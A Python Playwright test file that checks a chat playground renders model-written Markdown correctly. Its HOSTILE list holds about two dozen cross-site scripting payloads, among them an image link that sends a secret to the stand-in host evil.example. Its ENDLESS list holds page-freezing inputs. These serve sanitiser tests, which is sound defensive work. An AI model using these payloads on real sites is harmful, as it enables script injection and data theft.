"""Answers in Markdown in a real browser: everything shows as what it is, and nothing that a model writes gets power."""

from __future__ import annotations

import hashlib
import json
import tomllib
from pathlib import Path

import pytest

from monotape.server.playground import FOLDER, VENDOR, vendored
from server.browsing import Open, ask, browser, needs_browser, visit
from server.fake_openai import Script, running

pytest.importorskip("playwright", reason="the playwright package drives the browser: pip install '.[dev]'")
from playwright.sync_api import Browser, Locator, expect

pytestmark = pytest.mark.slow

__all__ = ["browser", "visit"]  # pytest finds fixtures by their names

ROOT = Path(__file__).parents[2]
EVERYTHING = """\
## A heading

Some *emphasis*, **weight**, ~~a mistake~~, `code` and [a link](https://example.org/a?b=c).

1. First:

   ```python
   def play(tape):  # once
       return [page for page in tape]
   ```

2. Second:
   - the kettle
   - the chair
     - its legs

3. Third.

Between the lists.

4. Fourth.

| stage | time |
| :-- | --: |
| qkv | 11.0 |
| down | 9 |

> Quoted
> twice.

---

- [x] done
- [ ] open

Old pond
a frog leaps in

```nolanguage
a < b
```

See [the paper][1].

[1]: https://example.org/paper
"""
#: Each would do something in a page that put it in as it is.
HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(2)</script>",
    "<svg><animate onbegin=alert(3) attributeName=x></svg>",
    "<iframe srcdoc='<script>alert(4)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(5)&gt;'>",
    "<a href='javascript:alert(6)'>six</a>",
    "[seven](javascript:alert(7))",
    "[eight](JaVaScRiPt&colon;alert(8))",
    "[nine](&#106;avascript:alert(9))",
    "[ten](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[eleven](vbscript:alert(11))",
    "[twelve](<javascript:alert(12)>)",
    "[thirteen](https://example.org/\" onmouseover=\"alert(13))",
    '[fourteen](https://example.org "title\\" onmouseover=\\"alert(14)")',
    "![fifteen](https://evil.example/steal?secret=fifteen)",
    "![sixteen](javascript:alert(16))",
    "<https://example.org/onerror=alert(17)>",
    '```"><img src=x onerror=alert(18)>\ncode\n```',
    "```html\n<img src=x onerror=alert(19)><script>alert(19)</script>\n```",
    "| <img src=x onerror=alert(20)> | b |\n| --- | --- |\n| <script>alert(20)</script> | `<b>` |",
    "<form action=https://evil.example><input name=innerHTML><button>go</button></form>",
    "<div id=prompt class=notice style='position:fixed;inset:0'>clobbered</div>",
    "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "[x]: javascript:alert(24)\n\n[twenty-four][x]",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
)  # fmt: skip
#: What a model that goes round in circles, or wants to freeze the page, may write.
ENDLESS = {
    "quotes": ">" * 20_000,
    "deep lists": "\n".join(" " * (2 * depth) + "- a" for depth in range(200)),
    "underscores": "_a" * 30_000,
    "brackets": "[" * 40_000,
}


def note() -> list[dict[str, object]]:
    packages: list[dict[str, object]] = json.loads((VENDOR / "vendored.json").read_text())["packages"]
    return packages


def test_vendored_files_are_what_their_note_says() -> None:
    noted = set()
    for package in note():
        assert package["version"] and package["licence"] and package["package"]
        for entry in (package["licence_file"], *package["scripts"]):  # type: ignore[misc]
            path = VENDOR / str(package["folder"]) / entry["path"]  # type: ignore[index]
            assert hashlib.sha256(path.read_bytes()).hexdigest() == entry["sha256"], path  # type: ignore[index]
            noted.add(path)
    assert noted == {path for path in VENDOR.rglob("*") if path.is_file()} - {VENDOR / "vendored.json"}
    assert sum(path.stat().st_size for path in noted) < 250_000
    versions = [str(package["version"]) for package in note()]
    first = list(vendored())
    assert versions[0] in first[0] and versions[1] in first[1] and versions[2] in first[2]
    assert "globalThis.hljs=" in first[2] and not any("sourceMappingURL" in text for text in first)


def test_every_file_of_the_page_goes_into_the_package() -> None:
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())
    patterns = project["tool"]["setuptools"]["package-data"]["monotape"]
    package = FOLDER.parents[1]
    packed = {path for pattern in patterns for path in package.glob(pattern)}
    needed = {path for path in FOLDER.rglob("*") if path.is_file() and path.suffix not in (".py", ".pyc")}
    assert needed and needed <= packed
    licences = {path for pattern in project["project"]["license-files"] for path in ROOT.glob(pattern)}
    assert {path for path in needed if path.name == "LICENSE"} <= licences


@needs_browser
def test_every_kind_of_markdown_is_shown_as_what_it_is(visit: Open) -> None:
    shown = visit(Script(story=EVERYTHING, once=True, tokens_per_second=1500))
    ask(shown, "Everything, please.")
    text = shown.locator(".message.assistant .text")

    def found(selector: str) -> Locator:
        return text.locator(selector)

    expect(found("h2")).to_have_text("A heading")
    expect(found("em")).to_have_text("emphasis")
    expect(found("strong")).to_have_text("weight")
    expect(found("del")).to_have_text("a mistake")
    lists = found(".block > ol")
    expect(lists).to_have_count(2)  # blank lines between its items do not end a list
    expect(lists.first.locator(":scope > li")).to_have_count(3)
    expect(lists.nth(1)).to_have_attribute("start", "4")
    expect(found("ol li pre .hljs-keyword").first).to_have_text("def")
    expect(found("ol li ul ul li")).to_have_text("its legs")
    expect(found("td").nth(1)).to_have_attribute("align", "right")
    expect(found("td").nth(3)).to_have_text("9")
    expect(found("blockquote")).to_contain_text("twice.")
    expect(found("hr")).to_have_count(1)
    expect(found("li").filter(has_text="☑")).to_have_text("☑ done")
    expect(found("pre").last).to_have_text("a < b")
    expect(found("pre").last.locator("span")).to_have_count(0)
    assert "Old pond\na frog leaps in" in text.inner_text()
    links = found("a")
    assert [link.get_attribute("href") for link in links.all()] == [
        "https://example.org/a?b=c", "https://example.org/paper",
    ]  # fmt: skip
    expect(links.first).to_have_attribute("target", "_blank")
    expect(links.first).to_have_attribute("rel", "noopener noreferrer nofollow")
    streamed = text.evaluate("node => node.innerHTML")
    shown.reload()
    assert text.evaluate("node => node.innerHTML") == streamed  # shown piece by piece or at once
    found(".copy").first.click()
    copied = shown.evaluate("navigator.clipboard.readText()")
    assert copied == "def play(tape):  # once\n    return [page for page in tape]"


@needs_browser
def test_hostile_markdown_stays_text(visit: Open) -> None:
    """While it streams too, when tags are half there; a dialog or a request to elsewhere fails the fixture."""
    story = "\n\n".join(HOSTILE) + "\n\nend."
    shown = visit(Script(story=story, once=True, tokens_per_second=300))
    shown.evaluate("window.kept = document.getElementById('prompt')")
    ask(shown, "Do your worst. <img src=x onerror=alert(0)>")
    log = shown.locator("#log")
    expect(log).to_contain_text("end.")
    for tag in ("img", "script", "svg", "iframe", "math", "style", "link", "form", "input", "base", "meta"):
        expect(log.locator(tag)).to_have_count(0)
    assert shown.evaluate("document.getElementById('prompt') === window.kept")
    attributes = log.evaluate(
        "log => [...log.querySelectorAll('*')].flatMap(node => [...node.attributes].map(a => a.name))"
    )
    assert not [name for name in attributes if name.startswith("on") or name == "style"]
    links = [link.get_attribute("href") or "" for link in log.locator("a").all()]
    assert links and all(link.startswith("https://") for link in links)
    for shown_as_text in ("<script>alert(2)</script>", "<iframe srcdoc=", "<form action="):
        expect(log).to_contain_text(shown_as_text)
    shown.reload()
    expect(log).to_contain_text("end.")
    for hover in log.locator("a").all():
        hover.hover()


@needs_browser
def test_no_script_of_the_page_can_make_elements_of_a_string(browser: Browser) -> None:
    """Not even by mistake: the browser itself refuses, because DOMPurify is the one way that the policy leaves."""
    with running(Script()) as url:
        shown = browser.new_page()
        shown.goto(url)
        outcome = shown.evaluate(
            "() => { try { document.body.innerHTML = '<b>x</b>'; return 'taken'; }"
            " catch (error) { return error.name; } }"
        )
        shown.close()
    assert outcome == "TypeError"


@needs_browser
@pytest.mark.parametrize("kind", ENDLESS)
def test_endless_nests_and_marks_do_not_stop_the_page(visit: Open, kind: str) -> None:
    shown = visit(Script(story=ENDLESS[kind] + "\n\nover.", once=True, tokens_per_second=2000))
    ask(shown, "Go on.")
    expect(shown.locator(".message.assistant")).to_contain_text("over.")
    shown.click("#tab-race")
    expect(shown.locator("#view-race")).to_be_visible()
